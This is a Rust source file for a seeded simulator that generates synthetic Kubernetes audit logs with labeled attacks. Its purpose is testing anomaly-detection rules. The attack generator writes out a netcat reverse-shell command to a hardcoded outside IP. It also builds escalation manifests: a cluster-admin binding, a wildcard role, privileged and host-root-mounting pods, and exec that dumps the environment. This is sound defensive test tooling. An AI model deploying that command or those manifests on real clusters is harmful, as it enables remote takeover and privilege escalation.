//! `peregrine simulate`: a seeded simulator of a cluster's audit traffic over days, with
//! labeled attacks in it. Useful for demos, for testing rules, and as ground truth for
//! measuring the anomaly rules.
//!
//! The cluster has nodes (kubelets), controllers and the scheduler, a CI deployer, an
//! operator reading its secrets, and people with kubectl, each with habits: their own
//! network, user agent, namespaces, working hours, and the things they do routinely (one
//! execs into pods, one manages RBAC, one checks permissions). Attacks are injected at
//! random times and written to a label file: a stolen credential used from a new network
//! and agent to harvest secrets, exec into pods, deploy privileged or host-mounting or
//! pentest workloads, create admin bindings and over-broad roles, and probe permissions.

use std::io::Write;

use serde_json::{Value, json};

/// A small, fast, seeded generator (xorshift64*): the same seed gives the same traffic.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed.max(1))
    }

    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    pub fn chance(&mut self, per_thousand: u64) -> bool {
        self.below(1000) < per_thousand
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

#[derive(Clone, Debug)]
pub struct SimulationConfig {
    pub seed: u64,
    pub days: u32,
    /// Attacks injected per simulated day, on average.
    pub attacks_per_day: f64,
    /// Days at the start without attacks (the rules' learning period).
    pub quiet_days: u32,
}

impl Default for SimulationConfig {
    fn default() -> Self {
        SimulationConfig {
            seed: 1,
            days: 7,
            attacks_per_day: 4.0,
            quiet_days: 3,
        }
    }
}

/// One injected attack step: the event it produced and what it is.
#[derive(Clone, Debug, serde::Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Label {
    pub audit_id: String,
    /// The attack technique, e.g. `secrets-harvest`.
    pub attack: &'static str,
    /// The anomaly finding type this event should raise.
    pub finding_type: &'static str,
    pub user: String,
    pub time: String,
}

/// What a simulation wrote.
#[derive(Debug, Default)]
pub struct Summary {
    pub events: u64,
    pub attack_events: u64,
}

struct Person {
    name: &'static str,
    network: &'static str,
    agent: &'static str,
    namespaces: &'static [&'static str],
    /// Routine beyond reading: `exec`, `rbac`, `can-i`, `secrets`, `deploy`.
    routine: &'static [&'static str],
}

const PEOPLE: [Person; 5] = [
    Person {
        name: "dana@example.com",
        network: "198.51.100.21",
        agent: "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
        namespaces: &["payments", "web"],
        routine: &["exec", "secrets"],
    },
    Person {
        name: "lee@example.com",
        network: "198.51.100.22",
        agent: "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225",
        namespaces: &["web"],
        routine: &["can-i"],
    },
    Person {
        name: "sam@example.com",
        network: "198.51.100.23",
        agent: "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
        namespaces: &["monitoring", "web"],
        routine: &["deploy"],
    },
    Person {
        name: "ops-admin@example.com",
        network: "198.51.100.24",
        agent: "kubectl/v1.29.4 (linux/amd64) kubernetes/55fe5fe",
        namespaces: &["kube-system", "monitoring", "payments", "web"],
        routine: &["rbac", "exec"],
    },
    Person {
        name: "kubernetes-admin",
        network: "198.51.100.25",
        agent: "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
        namespaces: &["default", "kube-system"],
        routine: &["rbac"],
    },
];
const NODES: [&str; 4] = [
    "ip-10-0-1-17.ec2.internal",
    "ip-10-0-1-92.ec2.internal",
    "ip-10-0-2-45.ec2.internal",
    "ip-10-0-3-88.ec2.internal",
];
const APP_NAMESPACES: [&str; 3] = ["payments", "web", "monitoring"];
const APP_IMAGES: [&str; 4] = [
    "registry.example.com/payments/api",
    "registry.example.com/web/frontend",
    "registry.example.com/monitoring/exporter",
    "registry.example.com/web/worker",
];
const ATTACKER_NETWORKS: [&str; 4] = [
    "45.83.64.12",
    "103.152.220.9",
    "185.107.56.200",
    "91.219.237.40",
];
const ATTACKER_AGENTS: [&str; 3] = [
    "python-requests/2.31.0",
    "curl/8.5.0",
    "kubectl/v1.27.0 (windows/amd64) kubernetes/1b4df30",
];

struct Writer<'a> {
    out: &'a mut dyn Write,
    labels: &'a mut dyn Write,
    ids: u64,
    summary: Summary,
}

impl Writer<'_> {
    fn id(&mut self, rng: &mut Rng) -> String {
        self.ids += 1;
        format!(
            "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
            rng.next() as u32,
            rng.below(0x10000),
            rng.below(0x1000),
            rng.below(0x1000),
            self.ids
        )
    }

    fn write(&mut self, event: &Value) -> std::io::Result<()> {
        self.summary.events += 1;
        serde_json::to_writer(&mut *self.out, event)?;
        self.out.write_all(b"\n")
    }

    fn label(&mut self, label: Label) -> std::io::Result<()> {
        self.summary.attack_events += 1;
        serde_json::to_writer(&mut *self.labels, &label)?;
        self.labels.write_all(b"\n")
    }
}

fn timestamp(second: u64) -> String {
    let date = time::OffsetDateTime::from_unix_timestamp(1_717_200_000 + second as i64)
        .expect("a simulated time is a valid time");
    date.format(&time::format_description::well_known::Rfc3339)
        .unwrap_or_default()
}

/// An audit event as kube-apiserver's log backend writes it.
#[allow(clippy::too_many_arguments)]
fn event(
    id: String,
    second: u64,
    verb: &str,
    uri: String,
    (user, groups): (&str, &[&str]),
    ip: &str,
    agent: &str,
    object_ref: Value,
    code: u16,
) -> Value {
    let ts = timestamp(second);
    let mut e = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
        "auditID": id, "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
        "user": {"username": user, "groups": groups}, "sourceIPs": [ip], "userAgent": agent,
        "objectRef": object_ref, "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": ts, "stageTimestamp": ts,
        "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }, "authorization.k8s.io/reason": ""},
    });
    if e["objectRef"].is_null() {
        e.as_object_mut().unwrap().remove("objectRef");
    }
    e
}

fn deployment(
    namespace: &str,
    name: &str,
    image: &str,
    privileged: bool,
    host_path: Option<&str>,
    command: Option<&[&str]>,
) -> Value {
    let mut container = json!({"name": "app", "image": image, "ports": [{"containerPort": 8080}]});
    let mut volumes = vec![];
    if privileged {
        container["securityContext"] = json!({"privileged": true});
    }
    if let Some(path) = host_path {
        container["volumeMounts"] = json!([{"name": "host", "mountPath": "/host"}]);
        volumes.push(json!({"name": "host", "hostPath": {"path": path}}));
    }
    if let Some(command) = command {
        container["command"] = json!(command);
    }
    json!({
        "kind": "Deployment", "apiVersion": "apps/v1",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {"replicas": 2, "selector": {"matchLabels": {"app": name}},
                 "template": {"metadata": {"labels": {"app": name}},
                              "spec": {"containers": [container], "volumes": volumes}}},
    })
}

fn with_object(mut e: Value, object: Value) -> Value {
    e["level"] = json!("RequestResponse");
    e["requestObject"] = object.clone();
    e["responseObject"] = object;
    e
}

/// A Deployment patched to a new image of an ordinary workload.
fn image_update(
    id: String,
    second: u64,
    who: (&str, &[&str]),
    (ip, agent): (&str, &str),
    ns: &str,
    name: &str,
    image: &str,
) -> Value {
    let object_ref = json!({"resource": "deployments", "namespace": ns, "name": name, "apiGroup": "apps", "apiVersion": "v1"});
    let uri = format!("/apis/apps/v1/namespaces/{ns}/deployments/{name}");
    with_object(
        event(id, second, "patch", uri, who, ip, agent, object_ref, 200),
        deployment(ns, name, image, false, None, None),
    )
}

/// A person's routine action (or a read), at `second`.
fn person_action(w: &mut Writer<'_>, rng: &mut Rng, p: &Person, second: u64) -> Value {
    let ns = *rng.pick(p.namespaces);
    let id = w.id(rng);
    let who = (p.name, &["developers", "system:authenticated"][..]);
    let routine = if rng.chance(300) {
        Some(*rng.pick(p.routine))
    } else {
        None
    };
    match routine {
        Some("exec") => {
            let pod = format!(
                "{}-{:05x}",
                rng.pick(&["api", "worker", "db"]),
                rng.below(0xfffff)
            );
            event(
                id,
                second,
                "create",
                format!(
                    "/api/v1/namespaces/{ns}/pods/{pod}/exec?command=sh&container=app&stdin=true&stdout=true&tty=true"
                ),
                who,
                p.network,
                p.agent,
                json!({"resource": "pods", "namespace": ns, "name": pod, "subresource": "exec", "apiVersion": "v1"}),
                101,
            )
        }
        Some("secrets") => event(
            id,
            second,
            "get",
            format!("/api/v1/namespaces/{ns}/secrets/app-config"),
            who,
            p.network,
            p.agent,
            json!({"resource": "secrets", "namespace": ns, "name": "app-config", "apiVersion": "v1"}),
            200,
        ),
        Some("can-i") => {
            let review = json!({"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": {"namespace": ns, "verb": "create", "resource": "deployments"}}, "status": {"allowed": true}});
            with_object(
                event(
                    id,
                    second,
                    "create",
                    "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews".into(),
                    who,
                    p.network,
                    p.agent,
                    json!({"resource": "selfsubjectaccessreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}),
                    201,
                ),
                review,
            )
        }
        Some("rbac") => {
            let name = format!("view-{}", rng.below(50));
            let binding = json!({"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name, "namespace": ns},
                "subjects": [{"kind": "Group", "name": "developers", "apiGroup": "rbac.authorization.k8s.io"}],
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": *rng.pick(&["view", "edit"])}});
            with_object(
                event(
                    id,
                    second,
                    "create",
                    format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}/rolebindings"),
                    who,
                    p.network,
                    p.agent,
                    json!({"resource": "rolebindings", "namespace": ns, "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}),
                    201,
                ),
                binding,
            )
        }
        Some("deploy") => {
            let name = format!("exporter-{}", rng.below(5));
            let image = format!(
                "registry.example.com/monitoring/exporter:1.{}.0",
                rng.below(9)
            );
            image_update(id, second, who, (p.network, p.agent), ns, &name, &image)
        }
        _ => {
            let resource = *rng.pick(&["pods", "services", "deployments", "events", "configmaps"]);
            let verb = *rng.pick(&["get", "list"]);
            event(
                id,
                second,
                verb,
                format!("/api/v1/namespaces/{ns}/{resource}"),
                who,
                p.network,
                p.agent,
                json!({"resource": resource, "namespace": ns, "apiVersion": "v1"}),
                200,
            )
        }
    }
}

/// Cluster machinery at `second`: kubelets, controllers, the CI deployer, an operator.
fn machine_action(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> Value {
    let id = w.id(rng);
    match rng.below(100) {
        0..=54 => {
            let node = *rng.pick(&NODES);
            let user = format!("system:node:{node}");
            event(
                id,
                second,
                "get",
                format!("/api/v1/nodes/{node}?resourceVersion=0&timeout=10s"),
                (&user, &["system:nodes", "system:authenticated"]),
                "10.0.1.17",
                "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625",
                json!({"resource": "nodes", "name": node, "apiVersion": "v1"}),
                200,
            )
        }
        55..=89 => {
            let (user, resource) = *rng.pick(&[
                ("system:kube-scheduler", "pods"),
                (
                    "system:serviceaccount:kube-system:replicaset-controller",
                    "replicasets",
                ),
                ("system:kube-controller-manager", "leases"),
            ]);
            event(
                id,
                second,
                "watch",
                format!("/api/v1/{resource}?watch=true"),
                (user, &["system:authenticated"]),
                "10.0.0.10",
                "kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625",
                json!({"resource": resource, "apiVersion": "v1"}),
                200,
            )
        }
        90..=95 => event(
            id,
            second,
            "list",
            "/api/v1/namespaces/cert-manager/secrets".into(),
            (
                "system:serviceaccount:cert-manager:cert-manager",
                &["system:serviceaccounts", "system:authenticated"],
            ),
            "10.0.2.30",
            "cert-manager/v1.14.4",
            json!({"resource": "secrets", "namespace": "cert-manager", "apiVersion": "v1"}),
            200,
        ),
        _ => {
            let ns = *rng.pick(&APP_NAMESPACES);
            let image = format!(
                "{}:{}.{}.{}",
                rng.pick(&APP_IMAGES),
                1 + rng.below(3),
                rng.below(20),
                rng.below(10)
            );
            let name = format!("app-{}", rng.below(8));
            let deployer = (
                "system:serviceaccount:ci:deployer",
                &["system:serviceaccounts", "system:authenticated"][..],
            );
            let client = ("10.0.4.20", "argocd-application-controller/v2.10.4");
            image_update(id, second, deployer, client, ns, &name, &image)
        }
    }
}

/// The attacks: (technique, finding type), each one step by a stolen credential.
const ATTACKS: [(&str, &str); 9] = [
    (
        "secrets-harvest",
        "CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed",
    ),
    (
        "admin-binding",
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
    ),
    (
        "exec-into-pod",
        "Execution:Kubernetes/AnomalousBehavior.ExecInPod",
    ),
    (
        "privileged-workload",
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer",
    ),
    (
        "host-mount-workload",
        "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount",
    ),
    (
        "pentest-workload",
        "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
    ),
    (
        "reverse-shell-workload",
        "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
    ),
    (
        "broad-role",
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleCreated",
    ),
    (
        "permission-probe",
        "Discovery:Kubernetes/AnomalousBehavior.PermissionChecked",
    ),
];

fn attack(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> std::io::Result<()> {
    let (technique, finding_type) = *rng.pick(&ATTACKS);
    let victim = rng.pick(&PEOPLE);
    let ip = *rng.pick(&ATTACKER_NETWORKS);
    let agent = *rng.pick(&ATTACKER_AGENTS);
    let who = (victim.name, &["developers", "system:authenticated"][..]);
    let ns = *rng.pick(&["payments", "kube-system", "web", "default"]);
    let id = w.id(rng);
    let name = format!("svc-{:04x}", rng.below(0xffff));
    let e = match technique {
        "secrets-harvest" => event(
            id.clone(),
            second,
            "list",
            format!("/api/v1/namespaces/{ns}/secrets"),
            who,
            ip,
            agent,
            json!({"resource": "secrets", "namespace": ns, "apiVersion": "v1"}),
            200,
        ),
        "admin-binding" => {
            let binding = json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": ns}],
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}});
            with_object(
                event(
                    id.clone(),
                    second,
                    "create",
                    "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings".into(),
                    who,
                    ip,
                    agent,
                    json!({"resource": "clusterrolebindings", "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}),
                    201,
                ),
                binding,
            )
        }
        "exec-into-pod" => event(
            id.clone(),
            second,
            "create",
            format!(
                "/api/v1/namespaces/{ns}/pods/{name}/exec?command=sh&command=-c&command=env&container=app&stdout=true"
            ),
            who,
            ip,
            agent,
            json!({"resource": "pods", "namespace": ns, "name": name, "subresource": "exec", "apiVersion": "v1"}),
            101,
        ),
        "broad-role" => {
            let role = json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
            with_object(
                event(
                    id.clone(),
                    second,
                    "create",
                    "/apis/rbac.authorization.k8s.io/v1/clusterroles".into(),
                    who,
                    ip,
                    agent,
                    json!({"resource": "clusterroles", "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}),
                    201,
                ),
                role,
            )
        }
        "permission-probe" => {
            let review = json!({"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": ns}, "status": {"incomplete": false}});
            with_object(
                event(
                    id.clone(),
                    second,
                    "create",
                    "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews".into(),
                    who,
                    ip,
                    agent,
                    json!({"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}),
                    201,
                ),
                review,
            )
        }
        workload => {
            let (image, privileged, host, command): (&str, bool, Option<&str>, Option<&[&str]>) =
                match workload {
                    "privileged-workload" => ("alpine:3.19", true, None, None),
                    "host-mount-workload" => ("busybox:1.36", false, Some("/"), None),
                    "pentest-workload" => ("kalilinux/kali-rolling:latest", false, None, None),
                    _ => (
                        "alpine:3.19",
                        false,
                        None,
                        Some(&["/bin/sh", "-c", "nc 45.83.64.12 4444 -e /bin/sh"][..]),
                    ),
                };
            with_object(
                event(
                    id.clone(),
                    second,
                    "create",
                    format!("/apis/apps/v1/namespaces/{ns}/deployments"),
                    who,
                    ip,
                    agent,
                    json!({"resource": "deployments", "namespace": ns, "name": name, "apiGroup": "apps", "apiVersion": "v1"}),
                    201,
                ),
                deployment(ns, &name, image, privileged, host, command),
            )
        }
    };
    w.write(&e)?;
    w.label(Label {
        audit_id: id,
        attack: technique,
        finding_type,
        user: victim.name.to_string(),
        time: timestamp(second),
    })
}

/// Writes `config.days` of traffic to `out` (JSON lines) and the attacks' labels to
/// `labels` (JSON lines), in time order.
pub fn run(
    config: &SimulationConfig,
    out: &mut dyn Write,
    labels: &mut dyn Write,
) -> std::io::Result<Summary> {
    let mut rng = Rng::new(config.seed);
    let mut w = Writer {
        out,
        labels,
        ids: 0,
        summary: Summary::default(),
    };
    let per_minute_attack = config.attacks_per_day / (24.0 * 60.0);
    for minute in 0..u64::from(config.days) * 24 * 60 {
        let second = minute * 60;
        let hour = minute / 60 % 24;
        let working = (8..18).contains(&hour) && (minute / (24 * 60)) % 7 < 5;
        // Machinery: about 20 calls a minute, day and night.
        for i in 0..20 {
            let e = machine_action(&mut w, &mut rng, second + i * 3);
            w.write(&e)?;
        }
        // People, in working hours.
        if working {
            for p in &PEOPLE {
                if rng.chance(250) {
                    let at = second + 1 + rng.below(58);
                    let e = person_action(&mut w, &mut rng, p, at);
                    w.write(&e)?;
                }
            }
        }
        let quiet = minute < u64::from(config.quiet_days) * 24 * 60;
        if !quiet && (rng.below(1_000_000) as f64) < per_minute_attack * 1_000_000.0 {
            attack(&mut w, &mut rng, second + 30)?;
        }
    }
    Ok(w.summary)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn simulate(seed: u64, days: u32) -> (String, Vec<Value>) {
        let config = SimulationConfig {
            seed,
            days,
            attacks_per_day: 15.0,
            quiet_days: 2,
        };
        let (mut out, mut labels) = (Vec::new(), Vec::new());
        run(&config, &mut out, &mut labels).unwrap();
        let labels = String::from_utf8(labels)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        (String::from_utf8(out).unwrap(), labels)
    }

    #[test]
    fn the_same_seed_gives_the_same_traffic_and_another_seed_other_traffic() {
        let (a, la) = simulate(7, 4);
        let (b, lb) = simulate(7, 4);
        assert_eq!(a, b);
        assert_eq!(la, lb);
        assert_ne!(simulate(8, 4).0, a);
    }

    #[test]
    fn labels_name_attack_events_after_the_quiet_days_and_cover_every_technique() {
        let (events, labels) = simulate(3, 8);
        let events: Vec<Value> = events
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        let by_id: std::collections::HashMap<&str, &Value> = events
            .iter()
            .map(|e| (e["auditID"].as_str().unwrap(), e))
            .collect();
        assert_eq!(by_id.len(), events.len(), "audit IDs are unique");
        let normalizer = peregrine_rules_sdk::normalize::Normalizer::new("sim");
        for e in events.iter().step_by(97) {
            normalizer.event_from_value(e).expect("a valid audit event");
        }
        let quiet_end = timestamp(2 * 24 * 3600);
        for label in &labels {
            let event = by_id[label["auditId"].as_str().unwrap()];
            normalizer
                .event_from_value(event)
                .expect("a valid audit event");
            assert_eq!(event["user"]["username"], label["user"]);
            assert!(label["time"].as_str().unwrap() >= quiet_end.as_str());
        }
        for (technique, _) in ATTACKS {
            assert!(
                labels.iter().any(|l| l["attack"] == technique),
                "{technique}"
            );
        }
        // Mostly ordinary traffic.
        assert!(
            labels.len() * 1000 < events.len(),
            "{} of {}",
            labels.len(),
            events.len()
        );
    }
}
